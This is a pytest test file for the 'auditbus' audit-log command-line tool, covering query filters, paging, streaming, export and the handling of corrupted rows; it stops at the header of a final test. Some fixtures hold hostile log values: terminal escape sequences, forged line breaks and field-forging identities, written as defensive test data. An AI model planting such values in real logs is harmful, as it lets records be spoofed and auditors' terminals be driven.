"""The `auditbus` command, driven the way an auditor runs it: as a subprocess.

Each test prepares its database through the public API (`AuditService`,
`DomainEvent`) in `tmp_path`, runs `python -m auditbus ...` (or the console
script) and checks exit status, stdout and stderr.
"""

from __future__ import annotations

import ast
import csv
import hashlib
import io
import json
import os
import pty
import pwd
import queue
import re
import select
import shlex
import shutil
import signal
import sqlite3
import stat
import subprocess
import sys
import tempfile
import threading
import time
import unicodedata
from collections.abc import Callable, Iterator, Sequence
from contextlib import contextmanager, suppress
from datetime import datetime, timedelta, timezone
from pathlib import Path
from typing import Any

import pytest
from audit_support import package_for_other_users, readable_folder, run_as_reader, wait_until, write_locked
from auditbus import (
    SECURITY_EVENT_TYPES,
    AuditService,
    DomainEvent,
    EventType,
    ReactiveEventBus,
    __version__,
    cli,
    identity,
)

UTC = timezone.utc
NOW = datetime.now(UTC)
AUDIT_TYPES = {t.value for t in SECURITY_EVENT_TYPES}
SCRIPT = Path(sys.executable).with_name("auditbus")


def clean_env(**extra: str) -> dict[str, str]:
    env = {key: value for key, value in os.environ.items() if key not in ("AUDITBUS_DB", "AUDITBUS_DEBUG")}
    env.update(extra)
    return env


def run(
    *args: str, cwd: Path, env: dict[str, str] | None = None, stdin: Any = subprocess.DEVNULL
) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [sys.executable, "-m", "auditbus", *args],
        check=False,
        cwd=cwd,
        env=env or clean_env(),
        stdin=stdin,
        capture_output=True,
        text=True,
        timeout=120,
    )


def assert_one_error_line(result: subprocess.CompletedProcess[str], status: int, *fragments: str) -> None:
    assert result.returncode == status, result
    assert "Traceback" not in result.stderr
    lines = result.stderr.strip().splitlines()
    assert len(lines) == 1, result.stderr
    assert lines[0].startswith("auditbus: error: ")
    for fragment in fragments:
        assert fragment in lines[0]


def jsonl(text: str) -> list[dict[str, Any]]:
    return [json.loads(line) for line in text.splitlines()]


def prepare(path: Path, events: Sequence[DomainEvent]) -> None:
    with AuditService(str(path)) as service:
        for event in events:
            service.record_event(event)
        service.flush()


def sample_events() -> list[DomainEvent]:
    """Five rows, oldest first: alice and bob over ten days."""
    with identity("alice"):
        events = [
            DomainEvent(
                event_type=EventType.SESSION_CREATED,
                timestamp=NOW - timedelta(days=10),
                session_id="s-1",
                actor_name="planner",
                details={"session_id": "s-1", "actor_name": "planner"},
            ),
            DomainEvent(
                event_type=EventType.PLAN_APPLIED,
                timestamp=NOW - timedelta(hours=3),
                plan_id="p-1",
                project_name="billing",
                details={"project_names": ["billing"], "files_changed": 2},
            ),
            DomainEvent(
                event_type=EventType.CONFIG_CHANGED,
                timestamp=NOW - timedelta(minutes=10),
                details={"key": "llm.model", "old_value": None, "new_value": "gpt-4o", "scope": "project"},
            ),
        ]
    with identity("bob"):
        events += [
            DomainEvent(
                event_type=EventType.PLAN_CANCELLED,
                timestamp=NOW - timedelta(minutes=5),
                plan_id="p-2",
                details={"reason": "superseded", "project_names": ["billing"]},
            ),
            DomainEvent(
                event_type=EventType.AUTH_FAILURE,
                timestamp=NOW - timedelta(minutes=1),
                details={"attempted_identity": "bob", "ip_address": "198.51.100.4", "failure_reason": "expired"},
            ),
        ]
    return events


@pytest.fixture
def trail(tmp_path: Path) -> Path:
    path = tmp_path / "trail.db"
    prepare(path, sample_events())
    return path


LEGACY_SCHEMA = """
CREATE TABLE audit_log (
    id INTEGER PRIMARY KEY AUTOINCREMENT, timestamp TEXT NOT NULL, event_type TEXT NOT NULL,
    plan_id TEXT, user_identity TEXT, details TEXT NOT NULL DEFAULT '{}');
"""


def legacy_rows(path: Path, *ages_in_days: int) -> None:
    """A database as the legacy service left it: its rows carry no hash."""
    with sqlite3.connect(path) as connection:
        connection.executescript(LEGACY_SCHEMA)
        for age in ages_in_days:
            connection.execute(
                "INSERT INTO audit_log (timestamp, event_type, user_identity, details) VALUES (?, ?, ?, ?)",
                ((NOW - timedelta(days=age)).isoformat(), "plan_applied", "alice", "{}"),
            )
    connection.close()


@pytest.fixture
def aged_trail(tmp_path: Path) -> Path:
    """Two legacy rows from last year, then the five sample events."""
    path = tmp_path / "aged.db"
    legacy_rows(path, 400, 390)
    prepare(path, sample_events())
    return path


def count_rows(path: Path) -> int:
    with AuditService(str(path)) as service:
        return service.count()


# --------------------------------------------------------------------------- query


def test_query_prints_an_aligned_table_newest_first(trail: Path) -> None:
    result = run("query", "--db", str(trail), cwd=trail.parent)
    assert result.returncode == 0, result.stderr
    lines = result.stdout.splitlines()
    assert lines[0].split()[:3] == ["ID", "TIME", "(UTC)"]
    types = [line.split()[3] for line in lines[1:]]
    assert types == ["auth_failure", "plan_cancelled", "config_changed", "plan_applied", "session_created"]
    type_column = lines[0].index("TYPE")
    assert all(line[type_column:].split()[0] in AUDIT_TYPES for line in lines[1:])


def test_query_json_lines_carry_every_field(trail: Path) -> None:
    result = run("query", "--json", "--db", str(trail), cwd=trail.parent)
    assert result.returncode == 0, result.stderr
    rows = jsonl(result.stdout)
    assert rows[0]["event_type"] == "auth_failure"
    first = rows[-1]
    assert first["user_identity"] == "alice"
    assert first["session_id"] == "s-1"
    assert first["details"]["actor_name"] == "planner"
    assert {"id", "timestamp", "event_id", "chain_hash"} <= first.keys()


def test_query_csv_has_a_header_and_details_as_json(trail: Path) -> None:
    result = run("query", "--csv", "--asc", "--db", str(trail), cwd=trail.parent)
    assert result.returncode == 0, result.stderr
    rows = list(csv.DictReader(io.StringIO(result.stdout)))
    assert [row["event_type"] for row in rows] == [
        "session_created",
        "plan_applied",
        "config_changed",
        "plan_cancelled",
        "auth_failure",
    ]
    assert json.loads(rows[1]["details"]).items() >= {"project_names": ["billing"], "files_changed": 2}.items()
    assert rows[1]["plan_id"] == "p-1"
    assert rows[1]["timestamp"].endswith("Z")
    assert isinstance(json.loads(rows[1]["source"]), dict)  # where the row was written: JSON, not a Python repr


@pytest.mark.parametrize(
    ("flags", "expected"),
    [
        (["--user", "bob"], ["auth_failure", "plan_cancelled"]),
        (["--type", "plan_applied", "--type", "plan_cancelled"], ["plan_cancelled", "plan_applied"]),
        (["--type", "plan_applied,auth_failure"], ["auth_failure", "plan_applied"]),
        (["--plan", "p-1"], ["plan_applied"]),
        (["--session", "s-1"], ["session_created"]),
        (["--actor", "planner"], ["session_created"]),
        (["--project", "billing"], ["plan_applied"]),
        (["--since", "2h"], ["auth_failure", "plan_cancelled", "config_changed"]),
        (["--since", "7d", "--until", "1h"], ["plan_applied"]),
        (["--until", (NOW - timedelta(days=1)).strftime("%Y-%m-%dT%H:%M:%SZ")], ["session_created"]),
        (["--user", "alice", "--since", "1d"], ["config_changed", "plan_applied"]),
        (["--limit", "2"], ["auth_failure", "plan_cancelled"]),
        (["--limit", "2", "--offset", "1"], ["plan_cancelled", "config_changed"]),
        (["--asc", "--limit", "2"], ["session_created", "plan_applied"]),
        (["--user", "nobody"], []),
    ],
)
def test_query_filters(trail: Path, flags: list[str], expected: list[str]) -> None:
    result = run("query", "--json", "--db", str(trail), *flags, cwd=trail.parent)
    assert result.returncode == 0, result.stderr
    assert [row["event_type"] for row in jsonl(result.stdout)] == expected


def test_query_outcome_filter_matches_what_the_rows_say(trail: Path) -> None:
    rows = jsonl(run("query", "--json", "--db", str(trail), cwd=trail.parent).stdout)
    outcomes = {row["event_type"]: row["outcome"] for row in rows}
    # The sample rows' types give them both outcomes: the loop below has something to check.
    assert (outcomes["plan_applied"], outcomes["auth_failure"]) == ("success", "failure"), outcomes
    for outcome in set(outcomes.values()) - {None}:
        result = run("query", "--json", "--outcome", outcome, "--db", str(trail), cwd=trail.parent)
        rows = jsonl(result.stdout)
        assert rows
        assert {row["outcome"] for row in rows} == {outcome}


def test_dates_filter_and_purge_by_the_events_time_not_when_it_was_committed(tmp_path: Path) -> None:
    path = tmp_path / "audit.db"
    with AuditService(path) as svc:
        svc.record_event(DomainEvent(event_type="plan_applied", plan_id="old", timestamp="2020-01-01T00:00:00Z"))
        svc.record_event(DomainEvent(event_type="plan_applied", plan_id="new"))

    def plans(*flags: str) -> list[str]:
        return [row["plan_id"] for row in jsonl(run("query", "--json", *flags, "--db", str(path), cwd=tmp_path).stdout)]

    assert plans("--until", "2021-01-01") == ["old"]
    assert plans("--since", "1d") == ["new"]
    # The service's start row, stamped when it opened, comes first and stops the purge.
    purged = run("purge", "--before", "2021-01-01", "--yes", "--db", str(path), cwd=tmp_path)
    assert purged.stdout.startswith("purged 0 rows"), purged.stderr
    assert plans() == ["new", "old"]


def test_a_table_shows_every_year_with_four_digits_as_the_dates_are_written(tmp_path: Path) -> None:
    path = tmp_path / "audit.db"
    with AuditService(path) as svc:
        for year in (1, 999):
            when = datetime(year, 1, 2, 3, 4, 5, 6999, tzinfo=UTC)
            svc.record_event(DomainEvent(event_type="plan_applied", plan_id=f"y{year}", timestamp=when))
    table = run("query", "--asc", "--db", str(path), cwd=tmp_path).stdout
    # What a table shows can be given back as a date: `1-01-02` could not.
    assert "0001-01-02 03:04:05.006 " in table
    assert "0999-01-02 03:04:05.006 " in table
    shown = run("query", "--json", "--since", "0999-01-02 03:04:05.006", "--db", str(path), cwd=tmp_path).stdout
    assert [row["plan_id"] for row in jsonl(shown)] == ["y999"]


def test_service_lifecycle_rows_show_only_when_named(trail: Path) -> None:
    everything = jsonl(run("query", "--json", "--db", str(trail), cwd=trail.parent).stdout)
    assert not {row["event_type"] for row in everything} & {"audit_started", "audit_stopped"}
    starts = jsonl(run("query", "--json", "--type", "audit_started", "--db", str(trail), cwd=trail.parent).stdout)
    assert starts
    assert {row["event_type"] for row in starts} == {"audit_started"}


def test_query_limit_zero_means_every_row(tmp_path: Path) -> None:
    path = tmp_path / "many.db"
    prepare(path, [DomainEvent(event_type=EventType.PLAN_CREATED, plan_id=f"p{i}") for i in range(150)])
    assert len(jsonl(run("query", "--json", "--db", str(path), cwd=tmp_path).stdout)) == 100
    assert len(jsonl(run("query", "--json", "--limit", "0", "--db", str(path), cwd=tmp_path).stdout)) == 150


_PEAK_RSS = """
import resource, subprocess, sys
child = subprocess.Popen(sys.argv[1:], stdout=subprocess.PIPE)
lines = sum(1 for _ in child.stdout)
if child.wait():
    sys.exit(child.returncode)
print(resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss, lines)
"""


def _peak_rss_kib(*args: str, cwd: Path) -> tuple[int, int]:
    """The peak resident memory of `auditbus ARGS`, and the number of lines it printed (counted, not kept)."""
    result = subprocess.run(
        [sys.executable, "-c", _PEAK_RSS, sys.executable, "-m", "auditbus", *args],
        check=True,
        cwd=cwd,
        env=clean_env(),
        capture_output=True,
        text=True,
        timeout=300,
    )
    peak, lines = result.stdout.split()
    return int(peak), int(lines)


@pytest.mark.parametrize(
    ("few", "every"),
    [
        (["query", "--limit", "1", "--json"], ["query", "--limit", "0", "--json"]),
        (["query", "--limit", "1", "--csv"], ["query", "--limit", "0", "--csv"]),
        (["query", "--limit", "1"], ["query", "--limit", "0"]),
        (["tail", "-n", "1"], ["tail", "-n", "100000"]),
        (["tail", "-n", "1", "--json"], ["tail", "-n", "100000", "--json"]),
    ],
)
def test_every_row_of_a_large_trail_is_streamed_in_bounded_memory(
    tmp_path: Path, few: list[str], every: list[str]
) -> None:
    """The command's memory must not grow with the rows it prints."""
    path = tmp_path / "large.db"
    with AuditService(str(path), durability="normal") as service, identity("alice"):
        for number in range(100_000):
            service.record_event(
                DomainEvent(event_type=EventType.CONFIG_CHANGED, details={"key": f"k{number}", "new_value": "v" * 200})
            )
    one, _ = _peak_rss_kib(*few, "--db", str(path), cwd=tmp_path)
    all_rows, printed = _peak_rss_kib(*every, "--db", str(path), cwd=tmp_path)
    # The rows went through the command: a line each (a header or notice aside).
    assert printed >= 100_000, printed
    # Held in memory, 100,000 such rows take well over 100 MiB.
    assert all_rows - one < 32 * 1024, (one, all_rows)


def test_a_row_with_the_largest_id_sqlite_allows_is_shown(trail: Path) -> None:
    with sqlite3.connect(trail) as connection:
        connection.execute(
            "INSERT INTO audit_log (id, timestamp, event_type, details) VALUES (?, ?, 'plan_applied', '{}')",
            (2**63 - 1, NOW.isoformat()),
        )
    connection.close()
    for args in (("query", "--limit", "0"), ("query", "--limit", "0", "--json"), ("tail", "-n", "2")):
        result = run(*args, "--read-only", "--db", str(trail), cwd=trail.parent)
        assert result.returncode == 0, (args, result.stderr)
        assert str(2**63 - 1) in result.stdout, args


def test_query_says_on_stderr_when_the_limit_hides_matching_rows(tmp_path: Path) -> None:
    path = tmp_path / "many.db"
    prepare(path, [DomainEvent(event_type=EventType.PLAN_CREATED, plan_id=f"p{i % 2}") for i in range(150)])
    for fmt in ("--json", "--csv"):
        result = run("query", fmt, "--db", str(path), cwd=tmp_path)
        assert result.returncode == 0, result.stderr
        assert result.stderr == (
            "auditbus: showing the newest 100 of 150 matching rows; --limit 0 shows all, --after-id 52 the next page\n"
        )
        assert "showing" not in result.stdout  # the machine-readable output stays clean
    assert len(jsonl(run("query", "--json", "--db", str(path), cwd=tmp_path).stdout)) == 100
    oldest = run("query", "--asc", "--limit", "10", "--plan", "p1", "--db", str(path), cwd=tmp_path)
    assert oldest.stderr == (
        "auditbus: showing the oldest 10 of 75 matching rows; --limit 0 shows all, --after-id 21 the next page\n"
    )
    paged = run("query", "--json", "--limit", "50", "--offset", "60", "--db", str(path), cwd=tmp_path)
    assert paged.stderr == (
        "auditbus: showing matching rows 61 to 110 of 150, newest first; --limit 0 shows all, "
        "--after-id 42 without --offset the next page\n"
    )
    after = run("query", "--json", "--limit", "20", "--after-id", "52", "--db", str(path), cwd=tmp_path)
    assert after.stderr == (
        "auditbus: showing the newest 20 of 50 matching rows below id 52; --limit 0 shows all, "
        "--after-id 32 the next page\n"
    )
    for complete in (
        ["--limit", "0"],
        ["--limit", "150"],
        ["--plan", "p0", "--limit", "75"],
        ["--offset", "60"],
        ["--after-id", "101"],
        ["--asc", "--after-id", "52"],
    ):
        result = run("query", "--json", *complete, "--db", str(path), cwd=tmp_path)
        assert result.returncode == 0
        assert result.stderr == "", complete


def test_query_pages_by_after_id_repeat_no_row_while_rows_are_appended(tmp_path: Path) -> None:
    """Newest first, rows appended between two calls shift every `--offset` page; `--after-id` pages do not move."""
    path = tmp_path / "live.db"
    prepare(path, [DomainEvent(event_type=EventType.PLAN_CREATED, plan_id=f"p{i}") for i in range(30)])

    def page(*flags: str) -> list[str]:
        result = run("query", "--json", "--limit", "10", *flags, "--db", str(path), cwd=tmp_path)
        assert result.returncode == 0, result.stderr
        return [row["plan_id"] for row in jsonl(result.stdout)]

    def cursor(plan_ids: list[str]) -> str:
        result = run("query", "--json", "--plan", plan_ids[-1], "--db", str(path), cwd=tmp_path)
        return str(jsonl(result.stdout)[0]["id"])

    first = page()
    assert first == [f"p{i}" for i in range(29, 19, -1)]
    prepare(path, [DomainEvent(event_type=EventType.PLAN_CREATED, plan_id=f"new{i}") for i in range(5)])
    assert page("--offset", "10")[:5] == first[-5:]  # the shift --after-id avoids
    second = page("--after-id", cursor(first))
    assert second == [f"p{i}" for i in range(19, 9, -1)]
    oldest = page("--asc")
    assert oldest == [f"p{i}" for i in range(10)]
    assert page("--asc", "--after-id", cursor(oldest)) == [f"p{i}" for i in range(10, 20)]
    every = run("query", "--json", "--limit", "0", "--after-id", cursor(second), "--db", str(path), cwd=tmp_path)
    assert (every.returncode, every.stderr) == (0, "")
    assert [row["plan_id"] for row in jsonl(every.stdout)] == [f"p{i}" for i in range(9, -1, -1)]
    newer = run(
        "query", "--json", "--asc", "--limit", "0", "--after-id", cursor(first), "--db", str(path), cwd=tmp_path
    )
    assert (newer.returncode, newer.stderr) == (0, "")
    assert [row["plan_id"] for row in jsonl(newer.stdout)] == [f"p{i}" for i in range(21, 30)] + [
        f"new{i}" for i in range(5)
    ]


def test_query_on_an_empty_trail_says_so(tmp_path: Path) -> None:
    path = tmp_path / "empty.db"
    prepare(path, [])
    result = run("query", "--db", str(path), cwd=tmp_path)
    assert result.returncode == 0
    assert result.stdout.strip() == "(no matching audit entries)"


def test_table_escapes_control_characters_from_stored_values(tmp_path: Path) -> None:
    """A hostile value (terminal escapes, a forged line break) cannot drive the auditor's terminal."""
    path = tmp_path / "hostile.db"
    hostile = "\x1b[2Jroot\r\nforged line"
    prepare(
        path,
        [
            DomainEvent(
                event_type=EventType.AUTH_FAILURE,
                # U+009B: the 8-bit form of ESC [ that terminals honouring C1 controls read the same.
                user_identity="\x1b[31mmallory\x9b2J",
                details={"attempted_identity": hostile, "ip_address": "192.0.2.1"},
            )
        ],
    )
    for command in (["query"], ["tail"]):
        result = run(*command, "--db", str(path), cwd=tmp_path)
        assert result.returncode == 0
        assert not re.search(r"[\x00-\x09\x0b-\x1f\x7f-\x9f]", result.stdout)
        assert len(result.stdout.splitlines()) == (2 if command == ["query"] else 1)
        assert "[2Jroot" in result.stdout
        assert "\\x1b[31mmallory\\x9b2J" in result.stdout
    raw = jsonl(run("query", "--json", "--db", str(path), cwd=tmp_path).stdout)
    assert raw[0]["details"]["attempted_identity"] == hostile


def _spoil_details(path: Path, plan_id: str, text: str) -> int:
    """Stores `text`, which is not JSON, as the details of the row of `plan_id`; returns its id."""
    with AuditService(str(path)) as service:
        target = service.query(plan_id=plan_id)[0].id
    with sqlite3.connect(path) as connection:
        connection.execute("UPDATE audit_log SET details = ? WHERE id = ?", (text, target))
    connection.close()
    return target


def _one_warning(stderr: str, row_id: int) -> None:
    warnings = [line for line in stderr.splitlines() if line.startswith("auditbus: warning: ")]
    assert len(warnings) == 1, stderr
    assert f"row {row_id} " in warnings[0]
    assert "unreadable details" in warnings[0]
    assert "Traceback" not in stderr
    assert "AuditError" not in stderr


def test_a_row_with_unreadable_details_is_shown_with_its_stored_text(trail: Path) -> None:
    """One row whose stored details are not JSON does not hide the others; it is shown marked, with a warning."""
    bad = _spoil_details(trail, "p-1", "not json\x1b[2J")
    where = {"cwd": trail.parent}

    table = run("query", "--db", str(trail), **where)
    assert table.returncode == 0, table.stderr
    _one_warning(table.stderr, bad)
    lines = table.stdout.splitlines()
    assert len(lines) == 6
    assert '[unreadable details, stored text: "not json\\u001b[2J"]' in next(
        line for line in lines if "plan_applied" in line
    )
    assert "\x1b" not in table.stdout

    rows = jsonl(run("query", "--json", "--asc", "--db", str(trail), **where).stdout)
    assert [row["event_type"] for row in rows][:3] == ["session_created", "plan_applied", "config_changed"]
    spoiled = rows[1]
    assert spoiled["id"] == bad
    assert spoiled["details"] is None
    assert spoiled["details_raw"] == "not json\x1b[2J"
    assert "not valid JSON" in spoiled["details_error"]
    assert spoiled["plan_id"] == "p-1"
    assert "details_error" not in rows[0]
    assert rows[0]["details"]["actor_name"] == "planner"

    as_csv = run("query", "--csv", "--asc", "--db", str(trail), **where)
    assert as_csv.returncode == 0
    _one_warning(as_csv.stderr, bad)
    cells = list(csv.DictReader(io.StringIO(as_csv.stdout)))
    assert (cells[1]["details"], cells[1]["details_raw"]) == ("", "not json\x1b[2J")
    assert "not valid JSON" in cells[1]["details_error"]
    assert (cells[0]["details_error"], cells[0]["details_raw"]) == ("", "")
    assert json.loads(cells[0]["details"])["actor_name"] == "planner"

    tail = run("tail", "--db", str(trail), **where)
    assert tail.returncode == 0
    _one_warning(tail.stderr, bad)
    assert len(tail.stdout.splitlines()) == 5
    assert '[unreadable details, stored text: "not json\\u001b[2J"]' in tail.stdout
    tail_json = run("tail", "--json", "--db", str(trail), **where)
    assert [row.get("details_raw") for row in jsonl(tail_json.stdout)].count("not json\x1b[2J") == 1

    for fmt in ("jsonl", "csv"):
        target = trail.parent / f"all.{fmt}"
        exported = run("export", "--format", fmt, "-o", str(target), "--db", str(trail), **where)
        assert exported.returncode == 0, exported.stderr
        _one_warning(exported.stderr, bad)
        assert "exported 5 rows" in exported.stderr
    assert [row.get("details_raw") for row in jsonl((trail.parent / "all.jsonl").read_text())][1] == "not json\x1b[2J"
    streamed = run("export", "--db", str(trail), **where)
    assert streamed.returncode == 0
    assert len(jsonl(streamed.stdout)) == 5
    _one_warning(streamed.stderr, bad)


def _spoil_column(path: Path, plan_id: str, column: str, text: str) -> int:
    """Stores `text` in `column` of the row of `plan_id`, as another writer could; returns its id."""
    with AuditService(str(path)) as service:
        target = service.query(plan_id=plan_id)[0].id
    with sqlite3.connect(path) as connection:
        connection.execute(f"UPDATE audit_log SET {column} = ? WHERE id = ?", (text, target))
    connection.close()
    return target


def _time_warnings(stderr: str) -> dict[str, str]:
    """The stderr warning lines about unreadable times, by column; no traceback."""
    assert "Traceback" not in stderr, stderr
    assert "AuditError" not in stderr, stderr
    warnings = [line for line in stderr.splitlines() if line.startswith("auditbus: warning: ")]
    found = {column: line for column in ("timestamp", "recorded_at") for line in warnings if f" {column} " in line}
    assert len(found) == len(warnings), stderr
    return found


def test_details_another_writer_stored_with_a_key_twice_are_shown_with_the_stored_text(tmp_path: Path) -> None:
    # `{"user": "alice", "user": "mallory"}` read as {"user": "mallory"}: a reader that keeps the first
    # value saw alice, the export held mallory alone, and nothing said the row held both.
    path = tmp_path / "twice.db"
    prepare(path, [])
    stored = '{"user": "alice", "more": {"n": 1, "n": 2}, "user": "mallory"}'
    with sqlite3.connect(path) as connection:
        (row_id,) = connection.execute(
            "INSERT INTO audit_log (timestamp, event_type, details) VALUES (?, ?, ?) RETURNING id",
            (NOW.isoformat(), "auth_success", stored),
        ).fetchone()
    connection.close()
    table = run("query", "--db", str(path), cwd=tmp_path)
    assert table.returncode == 0, table.stderr
    assert "alice" in table.stdout
    assert "mallory" in table.stdout
    (warning,) = table.stderr.splitlines()
    assert warning.startswith(f"auditbus: warning: row {row_id} has details that hold a key twice")
    (row,) = jsonl(run("query", "--json", "--db", str(path), cwd=tmp_path).stdout)
    assert (row["details"], row["details_raw"]) == (None, stored)
    assert row["details_error"] in ('details hold the key "user" twice', 'details hold the key "n" twice')
    (cells,) = csv.DictReader(io.StringIO(run("export", "--format", "csv", "--db", str(path), cwd=tmp_path).stdout))
    assert (cells["details"], cells["details_raw"]) == ("", stored)


def test_a_value_stored_as_bytes_that_are_not_utf8_is_named_where_it_is_shown(tmp_path: Path) -> None:
    # Read with U+FFFD in place of the bad bytes, such a value passed for the stored one, unmarked.
    path = tmp_path / "bytes.db"
    prepare(path, [])
    with sqlite3.connect(path) as connection:
        (row_id,) = connection.execute(
            "INSERT INTO audit_log (timestamp, event_type, user_identity, details) "
            "VALUES (?, 'auth_success', CAST(X'616c696365ff' AS TEXT), CAST(X'7b2261223a2262ff227d' AS TEXT)) "
            "RETURNING id",
            (NOW.isoformat(),),
        ).fetchone()
        connection.execute(
            "INSERT INTO audit_log (timestamp, event_type, user_identity) VALUES (?, 'auth_success', 'bob\ufffd')",
            (NOW.isoformat(),),
        )
    connection.close()
    rows = jsonl(run("query", "--json", "--asc", "--type", "auth_success", "--db", str(path), cwd=tmp_path).stdout)
    assert [row.get("not_utf8") for row in rows] == [["user_identity", "details"], None]
    assert rows[0]["user_identity"] == "alice\ufffd"
    (cells, real) = csv.DictReader(
        io.StringIO(run("export", "--format", "csv", "--type", "auth_success", "--db", str(path), cwd=tmp_path).stdout)
    )
    assert (json.loads(cells["not_utf8"]), real["not_utf8"]) == (["user_identity", "details"], "")
    for command in ("query", "tail", "export"):
        result = run(command, "--type", "auth_success", "--db", str(path), cwd=tmp_path)
        assert result.returncode == 0, result.stderr
        (warning,) = result.stderr.splitlines()
        assert warning.startswith(f"auditbus: warning: row {row_id} holds bytes that are not UTF-8"), command


def test_a_row_with_an_unreadable_time_is_shown_with_its_stored_text(trail: Path) -> None:
    """A row whose timestamp or recorded_at is not a timestamp does not hide the others; it is shown marked."""
    hostile = "garbage\x1b[2J\nforged"
    bad = _spoil_column(trail, "p-1", "timestamp", hostile)
    late = _spoil_column(trail, "p-2", "recorded_at", "")
    where = {"cwd": trail.parent}
    marker = '[unreadable timestamp: "garbage\\u001b[2J\\nforged"]'

    table = run("query", "--db", str(trail), **where)
    assert table.returncode == 0, table.stderr
    assert list(_time_warnings(table.stderr)) == ["timestamp"]  # the table does not show recorded_at
    assert f"row {bad} has an unreadable timestamp" in table.stderr
    lines = table.stdout.splitlines()
    assert len(lines) == 6
    assert marker in next(line for line in lines if "plan_applied" in line)
    assert "\x1b" not in table.stdout

    rows = jsonl(run("query", "--json", "--asc", "--db", str(trail), **where).stdout)
    assert [row["id"] for row in rows][1] == bad
    assert (rows[1]["timestamp"], rows[1]["timestamp_raw"]) == (None, hostile)
    assert "not an ISO-8601 timestamp" in rows[1]["timestamp_error"]
    assert rows[1]["plan_id"] == "p-1"
    assert rows[1]["details"]["files_changed"] == 2
    assert (rows[3]["id"], rows[3]["recorded_at"], rows[3]["recorded_at_raw"]) == (late, None, "")
    assert "timestamp_raw" not in rows[0]
    assert "recorded_at_raw" not in rows[0]
    assert rows[3]["timestamp"].endswith("Z")

    as_csv = run("query", "--csv", "--asc", "--db", str(trail), **where)
    assert as_csv.returncode == 0
    warned = _time_warnings(as_csv.stderr)
    assert f"row {bad} " in warned["timestamp"]
    assert f"row {late} " in warned["recorded_at"]
    cells = list(csv.DictReader(io.StringIO(as_csv.stdout)))
    assert (cells[1]["timestamp"], cells[1]["timestamp_raw"]) == ("", hostile)
    assert "not an ISO-8601 timestamp" in cells[1]["timestamp_error"]
    assert (cells[3]["recorded_at"], cells[3]["recorded_at_raw"]) == ("", "")
    assert "not an ISO-8601 timestamp" in cells[3]["recorded_at_error"]
    assert (cells[0]["timestamp_error"], cells[0]["timestamp_raw"], cells[0]["recorded_at_error"]) == ("", "", "")

    tail = run("tail", "--db", str(trail), **where)
    assert tail.returncode == 0
    assert list(_time_warnings(tail.stderr)) == ["timestamp"]
    assert len(tail.stdout.splitlines()) == 5
    assert marker in tail.stdout

    for fmt in ("jsonl", "csv"):
        target = trail.parent / f"all.{fmt}"
        exported = run("export", "--format", fmt, "-o", str(target), "--db", str(trail), **where)
        assert exported.returncode == 0, exported.stderr
        assert sorted(_time_warnings(exported.stderr)) == ["recorded_at", "timestamp"]
        assert "exported 5 rows" in exported.stderr
    assert [row.get("timestamp_raw") for row in jsonl((trail.parent / "all.jsonl").read_text())][1] == hostile

    verify = run("verify", "--db", str(trail), **where)
    assert verify.returncode == 3
    assert f"chain BROKEN at row {bad}:" in verify.stdout


def test_stats_names_an_unreadable_event_time_instead_of_failing(trail: Path) -> None:
    where = {"cwd": trail.parent}
    with sqlite3.connect(trail) as connection:
        connection.execute("UPDATE audit_log SET timestamp = 'garbage' WHERE id = 1")
    connection.close()
    stats = run("stats", "--json", "--db", str(trail), **where)
    assert stats.returncode == 0, stats.stderr
    assert json.loads(stats.stdout)["trail"]["oldest_event"] is None
    assert "row 1 has an unreadable timestamp" in stats.stderr


def test_tail_quotes_identity_fields_so_a_value_cannot_forge_another_field(tmp_path: Path) -> None:
    path = tmp_path / "forged.db"
    prepare(
        path,
        [
            DomainEvent(
                event_type=EventType.ENTITY_DELETED,
                user_identity="alice  role=admin",
                plan_id="p-9\u00a0project=payroll",
                actor_name="",
                details={"files changed": 1, "note": "ok"},
            )
        ],
    )
    line = run("tail", "--db", str(path), cwd=tmp_path).stdout.strip()
    assert 'user="alice  role=admin"' in line
    assert 'plan="p-9\u00a0project=payroll"' in line
    assert '"files changed"=1' in line
    assert "note=ok" in line
    unquoted = re.sub(r'"(?:[^"\\]|\\.)*"', '""', line)  # what is left outside quoted values
    assert "role=" not in unquoted
    assert "project=" not in unquoted


def test_table_quotes_a_value_whose_spaces_would_hide_or_forge_something(tmp_path: Path) -> None:
    # `alice ` (trailing space) is another user that looked exactly like `alice`; `mallory  success`
    # read as a user and an outcome; a no-break space read as an ordinary one.
    path = tmp_path / "spaces.db"
    names = ["alice", "alice ", " alice", "mallory  success", "\u00a0alice", '"alice"', "mary ann"]
    prepare(path, [DomainEvent(event_type=EventType.AUTH_SUCCESS, user_identity=name) for name in names])
    result = run("query", "--asc", "--type", "auth_success", "--db", str(path), cwd=tmp_path)
    assert result.returncode == 0, result.stderr
    header, *rows = result.stdout.splitlines()
    start, end = header.index("USER"), header.index("OUTCOME")
    cells = [row[start:end].rstrip() for row in rows]
    assert cells == [
        "alice",
        '"alice "',
        '" alice"',
        '"mallory  success"',
        '"\u00a0alice"',
        '"\\"alice\\""',
        "mary ann",
    ]
    assert [json.loads(cell) if cell.startswith('"') else cell for cell in cells] == names


def test_tail_details_cannot_pass_for_the_rows_own_fields(tmp_path: Path) -> None:
    # Details `{"user": "admin", "plan": "p-1"}` on a row without a user printed as
    # `user=admin plan=p-1`, the row of user admin on plan p-1 but for one space less.
    path = tmp_path / "posing.db"
    prepare(
        path,
        [
            DomainEvent(event_type=EventType.CONFIG_CHANGED, details={"user": "admin", "plan": "p-1"}),
            DomainEvent(event_type=EventType.CONFIG_CHANGED, user_identity="admin", plan_id="p-1"),
        ],
    )
    posing, real = run(
        "tail", "-n", "2", "--type", "config_changed", "--db", str(path), cwd=tmp_path
    ).stdout.splitlines()
    assert " ".join(posing.split()[4:]) != " ".join(real.split()[4:])
    assert posing.split("  ")[-1] == "details: user=admin plan=p-1"
    assert "details:" not in real


def test_a_details_key_holding_an_equals_sign_is_quoted(tmp_path: Path) -> None:
    # `{"role=admin": "x"}` and `{"role": "admin=x"}` both printed `role=admin=x`.
    path = tmp_path / "equals.db"
    prepare(
        path,
        [
            DomainEvent(event_type=EventType.CONFIG_CHANGED, details={"role=admin": "x"}),
            DomainEvent(event_type=EventType.CONFIG_CHANGED, details={"role": "admin=x"}),
        ],
    )
    for command in ("query", "tail"):
        shown = run(command, "--type", "config_changed", "--db", str(path), cwd=tmp_path).stdout
        assert '"role=admin"=x' in shown, command
        assert "role=admin=x" in shown.replace('"role=admin"=x', ""), command


def test_tail_quotes_a_stored_event_type_so_it_cannot_forge_a_field(tmp_path: Path) -> None:
